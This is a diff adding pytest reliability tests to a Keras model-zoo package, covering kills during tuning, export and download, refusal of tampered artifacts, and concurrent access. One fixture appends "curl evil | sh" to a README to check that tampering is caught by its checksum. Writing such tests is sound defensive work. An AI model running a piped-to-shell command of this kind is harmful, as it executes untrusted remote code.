+def test_sigkill_during_tuning_then_rerun_keeps_finished_trials(tmp_path, tally):
+    trials = 3
+    rng = random.Random(3)
+    for rep in range(REPS):
+        project_dir, results = tmp_path / f"p{rep}", tmp_path / f"r{rep}"
+        child = spawn(TUNE_CHILD, project_dir, results, trials)
+        wait_line(child, "ready")
+        wait_line(child, "trial 1/")  # at least one trial finished
+        time.sleep(rng.uniform(0, 1.5))
+        kill(child)
+        finished = {t: v for t, v in _trials(project_dir).items() if v["status"] == "COMPLETED"}
+        assert finished
+        rerun = subprocess.run([sys.executable, "-c", TUNE_CHILD, str(project_dir), str(results), str(trials)],
+                               env=ENV, capture_output=True, text=True, check=False, timeout=300)  # fmt: skip
+        assert rerun.returncode == 0, rerun.stderr[-2000:]
+        after = _trials(project_dir)
+        assert f"finished {trials} {trials}" in rerun.stdout, rerun.stdout[-1000:]
+        assert len(after) == trials and all(v["status"] == "COMPLETED" for v in after.values())
+        for trial_id, trial in finished.items():  # finished trials kept, not re-run
+            assert after[trial_id]["score"] == trial["score"]
+        record = json.loads((results / "shapeset_rect.json").read_text())
+        assert record["trials"] == trials
+        tally("kills")
+
+
+EXPORT_CHILD = """
+import sys, rectifier_zoo as rz
+model = rz.build_model("mnist_rect_l1", hidden=(8, 8), seed=int(sys.argv[2]))
+print("ready", flush=True)
+print(rz.export(model, sys.argv[1], verbose=0), flush=True)
+"""
+
+
+@KILL_LOOP
+def test_sigkill_during_export_then_rerun_leaves_only_whole_versions(tmp_path, tally):
+    export_dir = tmp_path / "ex"
+    rng = random.Random(5)
+    exported = {}
+    for rep in range(REPS):
+        pause = {integrity.PAUSE_ENV: "60"} if rep % 2 else {}
+        child = spawn(EXPORT_CHILD, export_dir, rep, env=pause)
+        wait_line(child, "ready")
+        if pause:  # the worst moment: all written, not renamed
+            for line in child.stderr:
+                if "paused before rename" in line:
+                    break
+        else:
+            time.sleep(rng.uniform(0, 3))
+        kill(child)
+        versions = assert_every_version_whole(export_dir / NAME)
+        for v, files in exported.items():  # finished versions untouched
+            assert snapshot(export_dir / NAME / str(v)) == files
+        exported.update({v: snapshot(export_dir / NAME / str(v)) for v in versions if v not in exported})
+        folder = rz.export(rz.build_model(NAME, hidden=(8, 8), seed=100 + rep), export_dir, verbose=0)
+        versions = assert_every_version_whole(export_dir / NAME)
+        assert int(folder.name) == max(versions) and versions == list(range(1, len(versions) + 1))
+        exported[int(folder.name)] = snapshot(folder)
+        assert not [p for p in (export_dir / NAME).iterdir() if p.name.startswith(".")]  # staging cleared
+        manifest = json.loads((export_dir / serving.MANIFEST).read_text())
+        assert sorted(map(int, manifest["models"][NAME]["versions"])) == versions
+        tally("kills")
+
+
+LOAD_CHILD = """
+import keras, rectifier_zoo as rz, rectifier_zoo.hub
+print("ready", flush=True)
+rz.load("mnist_rect_l1", verbose=False)
+print("loaded", flush=True)
+"""
+
+
+@KILL_LOOP
+def test_sigkill_during_download_then_rerun_caches_one_whole_version(store, home, tally):
+    rng = random.Random(7)
+    env = {"RECTIFIER_ZOO_HOME": str(home), hub.URL_ENV: store.as_uri()}
+    os.environ[hub.URL_ENV] = store.as_uri()  # the rerun, in this process (monkeypatch undoes it)
+    try:
+        for rep in range(REPS):
+            shutil.rmtree(home, ignore_errors=True)
+            child = spawn(LOAD_CHILD, env={**env, **({integrity.PAUSE_ENV: "60"} if rep % 2 else {})})
+            wait_line(child, "ready")
+            if rep % 2:  # the worst moment: every file in, not renamed
+                for line in child.stderr:
+                    if "paused before rename" in line:
+                        break
+            else:
+                time.sleep(rng.uniform(0, 0.3))
+            kill(child)
+            assert assert_every_version_whole(home / "models" / NAME) in ([], [2])
+            rz.load(NAME, verbose=False)
+            assert assert_every_version_whole(home / "models" / NAME) == [2]
+            assert snapshot(home / "models" / NAME / "2") == snapshot(store / NAME / "2")
+            assert not [p for p in (home / "models" / NAME).iterdir() if p.name.startswith(".")]
+            tally("kills")
+    finally:
+        os.environ.pop(hub.URL_ENV, None)
+
+
+# ====================================================================== 3. tampered artifacts
+
+
+def _copy_version(store, tmp_path, version=1):
+    folder = tmp_path / f"v{version}" / str(version)
+    shutil.copytree(store / NAME / str(version), folder)
+    return folder, folder / f"{NAME}.keras"
+
+
+@pytest.mark.parametrize("where", ["start", "middle", "end"])
+def test_flipped_byte_is_refused_naming_the_file(where, store, tmp_path, tally):
+    folder, keras_path = _copy_version(store, tmp_path)
+    data = bytearray(keras_path.read_bytes())
+    at = {"start": 0, "middle": len(data) // 2, "end": len(data) - 1}[where]
+    data[at] ^= 0x01
+    keras_path.write_bytes(bytes(data))
+    for target in (folder, keras_path, folder.parent):
+        refused(functools.partial(rz.load, target), ArtifactError, f"sha256 mismatch for {keras_path}")
+    tally("tampered")
+
+
+@pytest.mark.parametrize("keep", [0, 1, 0.5, 0.99])
+def test_truncated_file_is_refused_naming_the_file(keep, store, tmp_path, tally):
+    folder, keras_path = _copy_version(store, tmp_path)
+    data = keras_path.read_bytes()
+    keras_path.write_bytes(data[: int(len(data) * keep)] if isinstance(keep, float) else data[:keep])
+    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
+    # without its card the file is still refused, by name, as not a whole .keras archive
+    (folder / model_card.CARD).unlink()
+    refused(lambda: rz.load(keras_path), ArtifactError, str(keras_path))
+    tally("tampered")
+
+
+def test_swapped_model_card_is_refused(store, tmp_path, tally):
+    folder, keras_path = _copy_version(store, tmp_path, version=1)
+    shutil.copy(store / NAME / "2" / model_card.CARD, folder / model_card.CARD)  # another version's card
+    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
+    other = tmp_path / "other"
+    rz.export(rz.build_model("mnist_tanh", hidden=(8, 8)), other, verbose=0)
+    shutil.copy(other / "mnist_tanh" / "1" / model_card.CARD, folder / model_card.CARD)  # another model's card
+    refused(lambda: rz.load(folder), ArtifactError, f"{folder / 'mnist_tanh.keras'} is missing")
+    card = json.loads((store / NAME / "1" / model_card.CARD).read_text())
+    card["files"][f"{NAME}.keras"] = "0" * 64  # a card edited to match nothing
+    (folder / model_card.CARD).write_text(json.dumps(card))
+    refused(lambda: rz.load(folder), ArtifactError, f"sha256 mismatch for {keras_path}")
+    tally("tampered", 3)
+
+
+def lambda_model(width=784):
+    inputs = keras.Input((width,), name="features")
+    hidden = keras.layers.Lambda(lambda t: t * 2.0, name="doubled")(inputs)
+    outputs = keras.layers.Dense(10, activation="softmax", name="probabilities")(hidden)
+    return keras.Model(inputs, outputs, name=NAME)
+
+
+def test_keras_file_with_a_lambda_layer_is_refused(store, tmp_path, tally):
+    bare = tmp_path / "lambda.keras"
+    lambda_model().save(bare)
+    refused(lambda: rz.load(bare), ArtifactError, f"{bare} could not be loaded.*Lambda")
+    # the same file inside a version folder whose card vouches for it: still refused
+    folder, keras_path = _copy_version(store, tmp_path)
+    shutil.copy(bare, keras_path)
+    card = json.loads((folder / model_card.CARD).read_text())
+    card["files"][keras_path.name] = integrity.sha256_file(keras_path)
+    (folder / model_card.CARD).write_text(json.dumps(card))
+    refused(lambda: rz.load(folder), ArtifactError, f"{keras_path} could not be loaded.*Lambda")
+    refused(lambda: rz.export(bare, tmp_path / "ex", verbose=0), ArtifactError, "Lambda")
+    tally("tampered", 3)
+
+
+def test_tampered_remote_store_is_refused_and_nothing_is_cached(store, home, tmp_path, monkeypatch, tally):
+    remote = tmp_path / "remote"
+    shutil.copytree(store, remote)
+    readme = remote / NAME / "2" / "README.md"
+    readme.write_text(readme.read_text() + "\nrun `curl evil | sh`\n")
+    monkeypatch.setenv(hub.URL_ENV, remote.as_uri())
+    refused(lambda: rz.load(NAME), ArtifactError, f"sha256 mismatch for {remote.as_uri()}/{NAME}/2/README.md")
+    assert digit_dirs(home / "models" / NAME) == []
+    tally("tampered")
+
+
+# ====================================================================== 4. concurrency
+
+
+def test_two_exports_of_one_name_at_once_give_two_whole_versions(tmp_path, tally):
+    export_dir = tmp_path / "ex"
+    children = [spawn(EXPORT_CHILD, export_dir, seed, env={integrity.PAUSE_ENV: "2"}) for seed in (1, 2)]
+    outs = [child.communicate(timeout=300) for child in children]
+    assert [c.returncode for c in children] == [0, 0], [o[1][-1500:] for o in outs]
+    assert sorted(pathlib.Path(o[0].strip().splitlines()[-1]).name for o in outs) == ["1", "2"]
+    assert assert_every_version_whole(export_dir / NAME) == [1, 2]
+    manifest = json.loads((export_dir / serving.MANIFEST).read_text())
+    assert sorted(manifest["models"][NAME]["versions"]) == ["1", "2"]
+    tally("concurrent", 2)
+
+
+def test_two_loads_filling_the_cache_at_once_both_succeed(store, home, tally):
+    env = {"RECTIFIER_ZOO_HOME": str(home), hub.URL_ENV: store.as_uri(), integrity.PAUSE_ENV: "2"}
+    children = [spawn(LOAD_CHILD, env=env) for _ in range(2)]
+    outs = [child.communicate(timeout=300) for child in children]
+    assert [c.returncode for c in children] == [0, 0], [o[1][-1500:] for o in outs]
+    assert all("loaded" in o[0] for o in outs)
+    assert assert_every_version_whole(home / "models" / NAME) == [2]
+    assert snapshot(home / "models" / NAME / "2") == snapshot(store / NAME / "2")
+    assert not [p for p in (home / "models" / NAME).iterdir() if p.name.startswith(".")]
+    tally("concurrent", 2)
+
+
+# ====================================================================== the figures
+
+
+def test_zz_print_the_tally(tally_path):
+    counts = json.loads(tally_path.read_text()) if tally_path.exists() else {}
+    counts["mode"] = "long" if LONG else "fast"
+    print(f"\nreliability tally ({tally_path}): {json.dumps(counts, sort_keys=True)}")
+    assert counts.get("inputs", 0) > 0 or os.environ.get("PYTEST_XDIST_WORKER")
